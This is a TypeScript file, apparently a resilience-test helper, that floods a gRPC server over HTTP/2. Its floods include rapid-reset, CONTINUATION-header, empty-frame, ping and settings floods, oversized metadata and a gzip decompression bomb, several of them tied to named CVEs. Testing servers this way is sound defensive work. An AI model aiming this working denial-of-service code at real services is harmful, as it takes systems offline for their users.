// Runs as a process in a pod, or on a node: floods a socket with HTTP/2 that no gRPC client speaks, until it is ended. Prints `flooding`
// when the first round is over.
import { connect as connectUnix, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls } from 'node:tls';
import {
  ack,
  callHeaders,
  endHeaders,
  endStream,
  frame,
  literal,
  message,
  preface,
  type,
} from './http2-frames.js';

/** What is sent over each connection, again and again until the other side closes it. */
export type FloodKind =
  /** Watches that nobody reads and nobody ends. */
  | 'standing calls'
  /** Requests that are announced, and never end. */
  | 'half requests'
  /** Calls that are taken back at once (CVE-2023-44487). */
  | 'resets'
  /** A header that goes on for ever (CVE-2024-27983). */
  | 'continuations'
  /** Calls with as much metadata as goes into a header. */
  | 'metadata'
  /** Frames that want an answer each. */
  | 'pings'
  | 'settings'
  /** Data without a byte, and priorities of nothing (CVE-2019-9518, CVE-2019-9513). */
  | 'empty frames'
  /** A little data that unpacks to a GiB. */
  | 'compressed';

export interface Flood {
  readonly kind: FloodKind;
  /** Path of a unix socket, or a TCP port with what is shown there. */
  readonly to:
    | string
    | {
        readonly host: string;
        readonly port: number;
        readonly tls: Pick<ConnectionOptions, 'key' | 'cert' | 'ALPNProtocols'>;
      };
  /** Path of the method that is called. */
  readonly method: string;
  readonly connections: number;
  /** Of each connection: calls, or rounds of frames. */
  readonly times: number;
}

async function rounds({ kind, method, times }: Flood): Promise<(round: number) => Buffer> {
  const streamOf = (round: number): number => 2 * round + 1;
  const begin = callHeaders(method);
  switch (kind) {
    case 'standing calls':
      return (round) =>
        Buffer.concat([
          frame(type.headers, endHeaders, streamOf(round), begin),
          frame(type.data, endStream, streamOf(round), message(0, Buffer.alloc(0))),
        ]);
    case 'half requests': {
      // As much as fits into the windows of a connection that nobody reads from.
      const half = message(1 << 20, Buffer.alloc(16_000));
      return (round) =>
        Buffer.concat([
          frame(type.headers, endHeaders, streamOf(round), begin),
          frame(type.data, 0, streamOf(round), half),
        ]);
    }
    case 'resets':
      return (round) =>
        Buffer.concat([
          frame(type.headers, endHeaders | endStream, streamOf(round), begin),
          frame(type.reset, 0, streamOf(round), Buffer.from([0, 0, 0, 8])),
        ]);
    case 'continuations': {
      const more = frame(type.continuation, 0, 1, literal('x', 'y'.repeat(16_000)));
      return (round) => (round === 0 ? frame(type.headers, 0, 1, begin) : more);
    }
    case 'metadata': {
      const much = callHeaders(method, { 'x-much': 'y'.repeat(15_000) });
      return (round) =>
        Buffer.concat([
          frame(type.headers, endHeaders, streamOf(round), much),
          frame(type.data, endStream, streamOf(round), message(0, Buffer.alloc(0))),
        ]);
    }
    case 'pings':
      return () => frame(type.ping, 0, 0, Buffer.alloc(8));
    case 'settings':
      return () => frame(type.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
    case 'empty frames':
      return (round) =>
        round === 0
          ? frame(type.headers, endHeaders, 1, begin)
          : Buffer.concat([frame(type.data, 0, 1), frame(type.priority, 0, 1, Buffer.from([0, 0, 0, 3, 9]))]);
    case 'compressed': {
      const { gzipSync } = await import('node:zlib');
      const bomb = gzipSync(Buffer.alloc(15 << 20));
      const packed = callHeaders(method, { 'grpc-encoding': 'gzip' });
      return (round) =>
        Buffer.concat([
          frame(type.headers, endHeaders, streamOf(round), packed),
          frame(type.data, endStream, streamOf(round), message(bomb.length, bomb, true)),
        ]);
    }
    default:
      throw new Error(`no flood is called ${String(kind)}, ${times} times`);
  }
}

/** Sends as quickly as the other side takes it. What comes back is read and thrown away, but for what keeps a connection open. */
async function pour(socket: Socket, next: (round: number) => Buffer, times: number): Promise<void> {
  let isOpen = true;
  const closed = new Promise<void>((resolve) => {
    socket
      .on('error', () => socket.destroy())
      .once('close', () => {
        isOpen = false;
        resolve();
      });
  });
  socket.on('data', (bytes: Buffer) => {
    for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
      if (bytes[at + 3] === type.ping && bytes[at + 4] === 0 && isOpen)
        socket.write(frame(type.ping, ack, 0, bytes.subarray(at + 9, at + 17)));
  });
  socket.write(Buffer.concat([preface, frame(type.settings, 0, 0)]));
  for (let round = 0; round < times && isOpen; ) {
    const together: Buffer[] = [];
    for (let n = 0; n < 64 && round < times; n++) together.push(next(round++));
    if (!socket.write(Buffer.concat(together)))
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed, sleep(2000)]);
  }
}

const open = (to: Flood['to']): Promise<Socket> =>
  new Promise((resolve, reject) => {
    const socket: Socket =
      typeof to === 'string'
        ? connectUnix(to, () => resolve(socket))
        : connectTls({ host: to.host, port: to.port, rejectUnauthorized: false, ...to.tls }, () =>
            resolve(socket),
          );
    socket.once('error', reject);
  });

const flood = JSON.parse(process.argv[2] ?? '') as Flood;
const next = await rounds(flood);
const opened = await Promise.allSettled(Array.from({ length: flood.connections }, () => open(flood.to)));
const sockets = opened.flatMap((outcome) => (outcome.status === 'fulfilled' ? [outcome.value] : []));
if (sockets.length === 0) throw new Error(`no connection: ${JSON.stringify(opened)}`);
await Promise.all(sockets.map((socket) => pour(socket, next, flood.times)));
console.log('flooding');
// What stands, stands until the test ends this process.
setInterval(() => undefined, 1000);
